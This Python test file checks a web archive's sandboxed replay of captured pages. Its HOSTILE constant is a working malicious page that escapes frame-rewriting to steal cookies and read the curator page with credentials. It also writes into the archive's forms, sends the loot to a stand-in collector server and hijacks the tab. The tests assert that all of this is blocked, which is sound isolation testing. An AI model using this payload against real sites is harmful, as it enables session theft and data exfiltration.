"""Replay in a real Chromium: ReplayWeb.page and its service worker, on the replay origin
(replay.localhost), render the captured page inside the capture page's frame; a captured page
whose script and ``onerror`` handler go after the archive's cookies, pages and forms gets none
of them; and the capture page works without JavaScript, on a phone, and meets WCAG 2.2 AA."""

import datetime
import io
import json
import secrets
import struct
import zlib

import pytest
from django.contrib.auth.models import Group
from django.core.management import call_command
from django.test import Client
from playwright.sync_api import expect

from apps.captures.models import CaptureStatus, FileKind, WebCapture
from apps.captures.storage import Exchange, capture_dir, record_file, store_capture_files, url_key
from tests.e2e.conftest import CHROMIUM, CHROMIUM_ARGS
from tests.factories import SourceArticleFactory
from tests.ingest.conftest import FixtureServer, Reply

pytestmark = [pytest.mark.e2e, pytest.mark.django_db(transaction=True)]

URL = "https://news.example.org/2017/10/metoo.html"
WHEN = datetime.datetime(2017, 10, 16, 12, 0, tzinfo=datetime.UTC)


def png(width: int, height: int) -> bytes:
    """A red PNG of that size: enough for the browser to decode and lay out."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    rows = b"".join(b"\x00" + b"\xff\x00\x00" * width for _ in range(height))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )


PNG = png(2, 1)


@pytest.fixture(autouse=True)
def capture_store(settings, tmp_path):
    settings.WEB_CAPTURE_DIR = tmp_path / "web-captures"


def make_capture(html: str, *, requisites=None, screenshot: bytes | None = None) -> WebCapture:
    """A published article's finished capture of URL, with real WARC and WACZ files written
    by the storage code (as tests/captures' make_capture does)."""
    capture = WebCapture.objects.create(
        url=URL,
        url_key=url_key(URL),
        final_url=URL,
        article=SourceArticleFactory(published=True),
        status=CaptureStatus.DONE,
        captured_at=WHEN,
        http_status=200,
        content_type="text/html; charset=utf-8",
        title="Women say #MeToo",
        text="Women say #MeToo.\n\nThe captured article's text.",
    )
    pages = {URL: ("text/html; charset=utf-8", html.encode()), **(requisites or {})}
    exchanges = [
        Exchange(
            url=u, status=200, reason="OK", headers=[("Content-Type", t)], body=b, fetched_at=WHEN
        )
        for u, (t, b) in pages.items()
    ]
    digests = store_capture_files(
        capture, exchanges, page_url=URL, title=capture.title, text=capture.text
    )
    capture.payload_digest = digests[URL]
    capture.save(update_fields=["payload_digest"])
    if screenshot:
        path = capture_dir(capture) / "screenshot.png"
        path.write_bytes(screenshot)
        record_file(capture, FileKind.SCREENSHOT, path)
    return capture


@pytest.fixture
def replay_page(browser, live_server, tmp_path):
    """A page in a browser profile that allows third-party storage, as Chrome's default profile
    does: in development the replay origin (replay.localhost) is another site than the archive
    (localhost), and this Chromium's own default would refuse the framed replay its service
    worker. Production's default replay origin is a subdomain, the same site. Allowing
    third-party storage is also the harder case for the protections under test."""
    profile = tmp_path / "profile"
    (profile / "Default").mkdir(parents=True)
    preferences = {"profile": {"cookie_controls_mode": 0}}
    (profile / "Default" / "Preferences").write_text(json.dumps(preferences))
    context = browser.browser_type.launch_persistent_context(
        profile, executable_path=CHROMIUM, args=CHROMIUM_ARGS, base_url=live_server.url
    )
    page = context.pages[0] if context.pages else context.new_page()
    page.set_default_timeout(30_000)
    yield page
    context.close()


def replayed(page):
    """The captured page, as ReplayWeb.page shows it: the capture page's frame (replay
    origin), ReplayWeb.page's own frame in it, and the replayed page's frame in that."""
    return (
        page.frame_locator("iframe.replay-frame")
        .frame_locator("replay-web-page iframe")
        .frame_locator("replay-app-main iframe")
    )


def test_the_captured_page_is_replayed_with_its_requisites_inside_the_capture_page(replay_page):
    capture = make_capture(
        "<!doctype html><html><head><title>Women say #MeToo</title>"
        '<link rel="stylesheet" href="/style.css"></head>'
        '<body><h1 id="headline">Women say #MeToo</h1><p>Captured body text.</p></body></html>',
        requisites={"https://news.example.org/style.css": ("text/css", b"h1 { color: #010203 }")},
    )
    violations = []
    replay_page.on(
        "console",
        lambda m: violations.append(m.text) if "Content Security Policy" in m.text else None,
    )
    replay_page.goto(f"/captures/{capture.pk}/")
    headline = replayed(replay_page).locator("#headline")
    expect(headline).to_have_text("Women say #MeToo")
    expect(headline).to_be_visible()
    assert headline.evaluate("h => getComputedStyle(h).color") == "rgb(1, 2, 3)"
    assert headline.evaluate("h => location.origin").startswith("http://replay.localhost:")
    assert not violations, violations


# What a hostile captured page tries: read cookies here and up the frames, read the archive's
# curator page with the visitor's credentials, write into the archive page's forms, send what it
# got to a server of its own, and take over the tab. The replay engine rewrites a page's own
# ``top``, ``parent`` and ``window`` (even ``x.top``); the page gets the real ones from a new
# function's global scope and by computed names, as an attacker would.
# Each outcome is written into the page itself for the test to read.
HOSTILE = """<!doctype html>
<html><head><title>Innocent article</title></head>
<body>
<h1>Innocent article</h1>
<pre id="loot">pending</pre>
<pre id="loot-onerror">pending</pre>
<img alt="" src="/no-such-image.png" onerror="
  var got = {cookie: document.cookie};
  try { got.top = Function('return top')().document.cookie; }
  catch (e) { got.top = 'blocked: ' + e.name; }
  document.getElementById('loot-onerror').textContent = JSON.stringify(got);
  new Image().src = 'COLLECTOR/onerror?' + encodeURIComponent(JSON.stringify(got));
">
<script>
(async function () {
  var realWindow = Function('return th' + 'is')(), up = 'par' + 'ent', got = {frames: []};
  var realTop = realWindow['to' + 'p'];
  got.cookie = document.cookie;
  got.ownCookie = Object.getOwnPropertyDescriptor(Document.prototype, 'cookie').get.call(document);
  for (var w = realWindow, depth = 0; w !== realTop && depth < 8; w = w[up], depth++) {
    try { got.frames.push(w[up].location.href + ' ' + w[up].document.cookie); }
    catch (e) { got.frames.push('blocked: ' + e.name); }
  }
  try { got.top = realTop.document.documentElement.outerHTML; }
  catch (e) { got.top = 'blocked: ' + e.name; }
  try {
    realTop.document.body.appendChild(realTop.document.createElement('input'));
    got.forms = 'written';
  } catch (e) { got.forms = 'blocked: ' + e.name; }
  try {
    var answer = await fetch('ARCHIVE/curate/', {credentials: 'include'});
    got.fetch = answer.status + ' ' + (await answer.text());
  } catch (e) { got.fetch = 'blocked: ' + e.name; }
  try { await fetch('COLLECTOR/script?' + encodeURIComponent(JSON.stringify(got))); }
  catch (e) { got.sent = 'blocked: ' + e.name; }
  new Image().src = 'COLLECTOR/image?' + encodeURIComponent(JSON.stringify(got));
  var loot = document.getElementById('loot');
  loot.textContent = JSON.stringify(got);
  loot.dataset.done = 'yes';
  // Last, once the test has read the above: take the tab to the attacker's page.
  await new Promise(function (read) {
    var poll = setInterval(function () {
      if (loot.dataset.read) { clearInterval(poll); read(); }
    }, 50);
  });
  try { realTop.location.href = 'COLLECTOR/taken-over'; } catch (e) {}
  try { window.open('COLLECTOR/taken-over', '_top'); } catch (e) {}
})();
</script>
</body></html>"""


@pytest.fixture
def collector():
    server = FixtureServer()
    server.routes = {"/script": Reply(200, b"ok"), "/image": Reply(200, PNG)}
    yield server
    server.close()


@pytest.fixture
def signed_in_curator(replay_page, live_server, django_user_model):
    """The browser holds a signed-in curator's session on the archive's origin, its CSRF
    token, and a cookie that script on the archive's origin could read."""
    call_command("curation_groups", stdout=io.StringIO())
    carla = django_user_model.objects.create_user("carla", password=secrets.token_hex(12))
    carla.groups.add(Group.objects.get(name="Curator"))
    client = Client()
    client.force_login(carla)
    cookies = {
        "sessionid": client.cookies["sessionid"].value,
        "csrftoken": secrets.token_hex(16),
        "archive_marker": "marker-" + secrets.token_hex(8),
    }
    replay_page.context.add_cookies(
        [
            {"name": name, "value": value, "url": live_server.url, "httpOnly": name == "sessionid"}
            for name, value in cookies.items()
        ]
    )
    return cookies


def test_a_captured_page_s_script_reaches_no_cookie_page_or_form_of_the_archive(
    replay_page, live_server, collector, signed_in_curator
):
    capture = make_capture(
        HOSTILE.replace("ARCHIVE", live_server.url).replace("COLLECTOR", collector.url(""))
    )
    replay_page.goto(f"/captures/{capture.pk}/")
    # The archive's own origin can read the marker and its curator page: the control.
    own = replay_page.evaluate(
        "async () => [document.cookie, await (await fetch('/curate/')).text()]"
    )
    assert signed_in_curator["archive_marker"] in own[0]
    assert "Moderation queue" in own[1]

    frame = replayed(replay_page)
    frame.locator("#loot[data-done=yes]").wait_for()
    frame.locator("#loot-onerror").filter(has_not_text="pending").wait_for()
    loot = json.loads(frame.locator("#loot").inner_text())
    loot_onerror = json.loads(frame.locator("#loot-onerror").inner_text())

    got = json.dumps([loot, loot_onerror, collector.paths()])
    for name, value in signed_in_curator.items():
        assert value not in got, f"the captured page got the archive's {name}"
    assert "Moderation queue" not in got
    assert loot["top"].startswith("blocked")
    assert loot["forms"].startswith("blocked")
    assert loot_onerror["top"].startswith("blocked")
    assert loot["frames"][-1].startswith("blocked")  # the archive's page itself
    assert collector.paths() == []  # the engine's policy lets nothing out to another server

    # The tab stays on the archive's capture page, with nothing written into it.
    frame.locator("#loot").evaluate("loot => { loot.dataset.read = 'yes'; }")
    replay_page.wait_for_timeout(1000)
    assert replay_page.url == f"{live_server.url}/captures/{capture.pk}/"
    assert replay_page.locator("input").count() == 0
    assert "/taken-over" not in collector.paths()


def test_without_javascript_a_reader_gets_the_screenshot_the_text_and_the_wacz(
    browser, live_server
):
    capture = make_capture("<p>Hello</p>", screenshot=PNG)
    context = browser.new_context(base_url=live_server.url, java_script_enabled=False)
    page = context.new_page()
    page.goto(f"/captures/{capture.pk}/")
    screenshot = page.get_by_role("img", name="Screenshot of")
    assert screenshot.evaluate("img => img.complete && img.naturalWidth") == 2
    assert page.get_by_text("The captured article's text.").is_visible()
    link = page.get_by_role("link", name="Download the WACZ file")
    with page.expect_download() as download:
        link.click()
    assert download.value.suggested_filename == f"capture-{capture.pk}.wacz"
    context.close()


def test_the_capture_page_fits_a_phone_and_meets_wcag_aa(page, assert_accessible):
    capture = make_capture("<p>Hello</p>", screenshot=PNG)
    page.set_viewport_size({"width": 375, "height": 740})
    page.goto(f"/captures/{capture.pk}/")
    assert page.evaluate("document.documentElement.scrollWidth") <= 375
    assert_accessible(page)
